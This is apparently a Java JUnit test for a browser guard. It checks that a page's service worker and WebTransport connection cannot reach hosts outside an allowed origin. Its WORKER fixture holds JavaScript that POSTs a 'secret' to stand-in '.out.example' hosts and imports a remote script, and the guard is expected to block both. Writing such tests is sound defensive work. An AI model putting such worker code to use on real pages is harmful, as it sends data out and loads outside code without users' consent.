package dev.cairn.browser.guard;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cairn.agent.origin.WebOrigin;
import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.SocketTimeoutException;
import java.net.UnknownHostException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.CleanupMode;
import org.junit.jupiter.api.io.TempDir;

/** Ways out that a browser gives to pages alone which it trusts, as those of this machine: a worker that outlives its page, and a transport of packets. */
class SecureContextGuardTest {
    private static final int PATIENCE_SECONDS = 60;

    private static final String PAGE = """
            <!doctype html><title>app</title><link rel=icon href=data:,><script>
            (async () => {
              const packets = new WebTransport('https://127.0.0.1:UDP/t');
              packets.closed.catch(() => 0);
              await packets.ready;
            })().catch(() => fetch('/transport-failed'));
            (async () => {
              await navigator.serviceWorker.register('/served.js');
              await navigator.serviceWorker.ready;
              if (!navigator.serviceWorker.controller) await new Promise(done => { navigator.serviceWorker.oncontrollerchange = done; });
              await fetch('/asked');
              await fetch('/done');
            })();
            </script>""";

    private static final String WORKER = """
            const out = name => fetch('http://' + name + '.out.example:PORT/w', { mode: 'no-cors', method: 'POST', body: 'secret' }).catch(() => 0);
            try { importScripts('http://imported.out.example:PORT/i.js'); } catch (e) { }
            oninstall = e => { skipWaiting(); e.waitUntil(out('installed')); };
            onactivate = e => e.waitUntil(clients.claim());
            onfetch = e => { if (e.request.url.endsWith('/asked')) e.respondWith(out('served').then(() => new Response('ok'))); };
            """;

    @TempDir(cleanup = CleanupMode.NEVER) // the browser may still be writing to its profile
    @SuppressWarnings("NullAway.Init")
    private Path folder;

    private final BlockingQueue<GuardRefusal> refused = new LinkedBlockingQueue<>();

    private static List<InetAddress> resolve(String host) throws UnknownHostException {
        return host.endsWith(".example")
                ? List.of(InetAddress.getByAddress(new byte[] {127, 0, 0, 1}))
                : NameResolver.SYSTEM.resolve(host);
    }

    @Test
    void noWorkerAndNoPacketPassesTheGuard() throws Exception {
        try (CountingSite app = CountingSite.start();
                CountingSite other = CountingSite.start();
                DatagramSocket udp = new DatagramSocket(new InetSocketAddress("127.0.0.1", 0))) {
            app.page("/", PAGE.replace("UDP", "" + udp.getLocalPort()))
                    .page("/served.js", WORKER.replace("PORT", "" + other.port()));
            String start = "http://127.0.0.1:" + app.port();
            GuardPolicy own = GuardPolicy.only(WebOrigin.of(start).orElseThrow());
            Set<String> expected =
                    new TreeSet<>(List.of("imported.out.example", "installed.out.example", "served.out.example"));
            Path profile = Files.createDirectories(folder);
            try (BrowserGuard guard = BrowserGuard.start(
                            own, SecureContextGuardTest::resolve, GuardLimits.DEFAULT, refused::add);
                    HeadlessChromium browser = HeadlessChromium.open(start + "/", guard.switches(), profile)) {
                while (!expected.isEmpty()) {
                    GuardRefusal next = Optional.ofNullable(refused.poll(PATIENCE_SECONDS, TimeUnit.SECONDS))
                            .orElseThrow(() -> new AssertionError("these never came to the guard: " + expected));
                    expected.remove(next.origin().host());
                }
                assertThat(app.await("/done", PATIENCE_SECONDS)).isTrue();
                assertThat(app.await("/transport-failed", PATIENCE_SECONDS)).isTrue();
            }
            assertThat(other.arrived()).isEmpty();
            udp.setSoTimeout(1);
            assertThat(received(udp)).as("a packet has come").isFalse();
        }
    }

    private static boolean received(DatagramSocket udp) throws IOException {
        try {
            udp.receive(new DatagramPacket(new byte[2_048], 2_048));
            return true;
        } catch (SocketTimeoutException e) {
            return false;
        }
    }
}
